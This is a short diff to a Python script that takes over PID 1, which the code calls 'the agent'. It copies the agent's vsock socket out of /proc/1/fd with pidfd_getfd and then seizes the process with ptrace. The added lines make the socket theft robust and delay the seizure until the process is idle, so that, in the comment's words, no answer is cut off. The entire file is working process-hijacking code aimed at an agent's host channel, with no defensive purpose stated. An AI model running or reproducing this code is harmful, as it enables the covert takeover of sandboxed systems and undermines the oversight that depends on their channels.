@@ -19,11 +19,16 @@ PIDFD_OPEN, PIDFD_GETFD, SEIZE, INTERRUPT = 434, 438, 0x4206, 0x4207
 agent = libc.syscall(PIDFD_OPEN, 1, 0)
 def take():
     for fd in sorted(map(int, os.listdir("/proc/1/fd"))):
-        if os.readlink(f"/proc/1/fd/{fd}").startswith("socket:"):
-            found = socket.socket(fileno=libc.syscall(PIDFD_GETFD, agent, fd, 0))
-            if found.family == socket.AF_VSOCK:
-                return found
+        try:  # the agent opens and closes what it works with
+            if os.readlink(f"/proc/1/fd/{fd}").startswith("socket:"):
+                found = socket.socket(fileno=libc.syscall(PIDFD_GETFD, agent, fd, 0))
+                if found.family == socket.AF_VSOCK:
+                    return found
+        except (OSError, ValueError):
+            pass
 channel = take()
+# not in the middle of an answer, which nobody would end
+while open("/proc/1/stat").read().rpartition(")")[2].split()[0] != "S": time.sleep(0.001)
 assert libc.ptrace(SEIZE, 1, None, None) == 0
 assert libc.ptrace(INTERRUPT, 1, None, None) == 0
 os.waitpid(1, 0x40000000)
